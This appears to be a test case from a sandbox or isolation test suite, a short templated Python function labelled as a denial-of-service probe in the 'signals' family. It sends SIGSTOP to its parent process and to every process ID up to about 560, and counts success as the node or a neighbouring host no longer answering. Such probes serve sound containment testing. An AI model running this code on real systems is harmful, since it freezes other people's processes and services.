# family: signals
# kind: dos
# tries: SIGSTOP to every process that can be named, the parent first
# success looks like: the node or the neighbour stops answering
def job(plugin):
  @LIBC@
  sent = 0
  for pid in [os.getppid()] + list(range(2, max(os.getpid(), 500) + 60)):
    if pid != os.getpid():
      try:
        os.kill(pid, 19)
        sent = sent + 1
      except OSError:
        pass
  return sent
